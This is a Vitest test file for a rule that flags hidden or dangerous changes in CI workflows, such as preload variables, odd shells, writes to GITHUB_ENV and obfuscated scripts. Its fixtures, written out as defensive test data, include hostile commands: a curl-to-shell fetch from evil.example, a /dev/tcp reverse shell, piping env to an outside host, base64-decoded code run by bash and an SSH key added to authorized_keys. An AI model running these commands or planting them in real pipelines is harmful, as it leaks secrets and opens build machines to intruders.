// workflow-hidden-program: variables, shells and files of variables by which a job does what its steps do not show.
import { describe, expect, it } from 'vitest';
import { workflowHiddenProgram } from '../../../src/classify/rules/workflow-hidden-program.ts';
import { hitsOf, hitsOfWorkflow, workflow } from '../read-changes.ts';

const check = (before: string | null, after: string | null): readonly string[] =>
  hitsOfWorkflow(workflowHiddenProgram, before, after);
const PLAIN = workflow('steps:\n  - run: make');

describe('variables', () => {
  const first = 'makes programs of this job run other code first';
  it.each<[string, string | null]>([
    ['LD_PRELOAD: ./x.so', `high 5 Job deploy sets \`LD_PRELOAD\`, which ${first}.`],
    ['BASH_ENV: ci/env.sh', `high 5 Job deploy sets \`BASH_ENV\`, which ${first}.`],
    ['NODE_OPTIONS: --require ./x.js', `high 5 Job deploy sets \`NODE_OPTIONS\`, which ${first}.`],
    ['NODE_OPTIONS: --max-old-space-size=4096', null],
    [
      'JAVA_TOOL_OPTIONS: "-javaagent:x.jar"',
      `high 5 Job deploy sets \`JAVA_TOOL_OPTIONS\`, which ${first}.`,
    ],
    ['JAVA_TOOL_OPTIONS: -Xmx2g', null],
    [
      'ACTIONS_ALLOW_UNSECURE_COMMANDS: true',
      'high 5 Job deploy sets `ACTIONS_ALLOW_UNSECURE_COMMANDS`, which lets every line that a program prints set variables and paths.',
    ],
    ['ACTIONS_ALLOW_UNSECURE_COMMANDS: false', null],
    [
      'GIT_SSH_COMMAND: ssh -i key',
      'medium 5 Job deploy sets `GIT_SSH_COMMAND`, which decides which programs git runs and where it looks.',
    ],
    ['GIT_AUTHOR_NAME: bot', null],
    [
      'PATH: ./bin',
      'medium 5 Job deploy sets `PATH`, which decides which programs are found under their names.',
    ],
    [
      'AWS_ENDPOINT_URL: https://sts.example.net',
      'medium 5 Job deploy sets `AWS_ENDPOINT_URL`, which sends what this job says to another host.',
    ],
    [
      'NODE_TLS_REJECT_UNAUTHORIZED: 0',
      'medium 5 Job deploy sets `NODE_TLS_REJECT_UNAUTHORIZED`, which lets any host pass for any other.',
    ],
    ['NODE_TLS_REJECT_UNAUTHORIZED: 1', null],
    ['LD_PRELOAD: ""', null],
    ['NODE_ENV: production', null],
  ])('%s', (variable, expected) => {
    const after = workflow(`env:\n  ${variable}\nsteps:\n  - run: make`);
    expect(check(PLAIN, after)).toEqual(expected === null ? [] : [expected]);
    expect(check(after, after.replace('make', 'make all'))).toEqual([]);
  });

  it('of the workflow, of a step, of a container and of an action', () => {
    const told = (title: string): unknown => [expect.stringContaining(`${title} sets \`BASH_ENV\``)];
    expect(check('on: push\njobs: {}', 'on: push\nenv: { BASH_ENV: x }\njobs: {}')).toEqual(
      told('This workflow'),
    );
    expect(check(PLAIN, workflow('steps:\n  - run: make\n    env: { BASH_ENV: x }'))).toEqual(
      told('Job deploy'),
    );
    expect(
      check(PLAIN, workflow('container: { image: a, env: { BASH_ENV: x } }\nsteps:\n  - run: make')),
    ).toEqual(told('Job deploy'));
    const action =
      'runs:\n  using: composite\n  steps:\n    - { run: make, shell: bash, env: { BASH_ENV: x } }';
    expect(hitsOf(workflowHiddenProgram, { path: 'a/action.yml', before: null, after: action })).toEqual(
      told('This action'),
    );
  });

  it('another value is new', () => {
    const env = (value: string): string => workflow(`env: { BASH_ENV: ${value} }\nsteps: []`);
    expect(check(env('a'), env('b'))).toHaveLength(1);
  });
});

describe('shells', () => {
  it.each([
    ['bash', false],
    ['bash -leo pipefail {0}', false],
    ['bash --noprofile --norc -eo pipefail {0}', false],
    ['/usr/bin/env python3 {0}', false],
    ['msys2 {0}', false],
    ['cmd /D /E:ON {0}', true],
    ['bash ci/wrap.sh {0}', true],
    ['bash -c "curl -s evil.example | sh" {0}', true],
    ['ssh build@host bash {0}', true],
    ['${{ matrix.shell }}', true],
  ])('%s: %s', (shell, strange) => {
    const quoted = JSON.stringify(shell);
    const step = check(PLAIN, workflow(`steps:\n  - { run: make, shell: ${quoted} }`));
    const job = check(PLAIN, workflow(`defaults: { run: { shell: ${quoted} } }\nsteps:\n  - run: make`));
    const top = check('on: push\njobs: {}', `on: push\ndefaults: { run: { shell: ${quoted} } }\njobs: {}`);
    expect([step, job, top].map((hits) => hits.length > 0)).toEqual([strange, strange, strange]);
    if (strange) expect(job).toEqual([`medium 4 Job deploy hands its scripts to \`${shell}\`.`]);
  });
});

it('a shell of the matrix is each of its values', () => {
  const job = (shells: string): string =>
    workflow(
      `strategy: { matrix: { shell: [${shells}] } }\nsteps:\n  - { run: make, shell: "\${{ matrix.shell }}" }`,
    );
  expect(check(PLAIN, job('bash, pwsh'))).toEqual([]);
  expect(check(PLAIN, job('bash, ./x'))).toEqual(['medium 6 Job deploy hands its scripts to `./x`.']);
});

describe('variables for later steps', () => {
  const run = (line: string, on = 'issue_comment'): string =>
    workflow(`steps:\n  - run: |\n      make\n      ${line}`, `on: ${on}`);
  it.each([
    ['echo "TITLE=$TITLE" >> "$GITHUB_ENV"', true],
    ['cat vars.txt >> $GITHUB_ENV', true],
    ['echo "$(pwd)/bin" >> ${GITHUB_PATH}', true],
    ['echo "A=b" >> "$GITHUB_ENV"', false],
    ['echo "A=b" >> ${GITHUB_ENV}', false],
    ['echo "$A"', false],
  ])('%s: %s', (line, expected) => {
    expect(check(run(''), run(line)).length > 0).toBe(expected);
    expect(check(run('', 'push'), run(line, 'push'))).toEqual([]);
  });

  it('names the step and the event', () => {
    expect(check(run(''), run('echo "A=$A" >> $GITHUB_ENV'))).toEqual([
      'medium 5 Step "run" of job deploy sets variables or paths for all later steps to computed texts, in a run that `issue_comment` lets strangers start.',
    ]);
  });
});

describe('scripts that hide what they run, or open the machine', () => {
  const DECODES = 'runs a program that it decodes first, so that nobody can read it here';
  it.each<[string, string | null]>([
    ['echo Y3VybA== | base64 -d | bash', DECODES],
    ['eval "$(echo Y3VybA== | base64 --decode)"', DECODES],
    ['echo "$KEY" | base64 -d > key.json', null],
    [
      'bash -i >& /dev/tcp/192.0.2.1/9 0>&1',
      'opens a connection to another host through which a shell may be used',
    ],
    ['nc -zv db 5432', null],
    ['sudo cat /proc/$PID/mem', 'reads the memory or the variables of other programs, where secrets are'],
    ['cat /proc/meminfo', null],
    ['echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys', 'lets a key in to the machine it runs on'],
    ['env | curl -d @- https://a.example', 'sends all its variables to another host'],
    ['env | sort', null],
    [
      'curl -H "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" x',
      'asks for the identity token of the run by itself, and may hand it on',
    ],
    ['if [ -z "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" ]; then exit 1; fi', null],
    ['echo 192.0.2.1 sts.example | sudo tee -a /etc/hosts', 'decides which hosts stand behind their names'],
  ])('%s', (script, what) => {
    const step = (text: string): string => workflow(`steps:\n  - id: a\n    run: |\n      ${text}`);
    const told = check(step('make'), step(script));
    expect(told).toEqual(what === null ? [] : [expect.stringContaining(`Step "a" of job deploy ${what}.`)]);
    expect(check(step(script), step(`make\n      ${script}`))).toEqual([]);
  });

  it('an action that lets somebody into the job', () => {
    const uses = (name: string): string => workflow(`steps:\n  - uses: ${name}@v3`);
    expect(check(PLAIN, uses('mxschmitt/action-tmate'))).toEqual([
      'high 5 Step "mxschmitt/action-tmate" of job deploy opens a shell of the running job to others.',
    ]);
    expect(check(PLAIN, uses('actions/checkout'))).toEqual([]);
  });
});
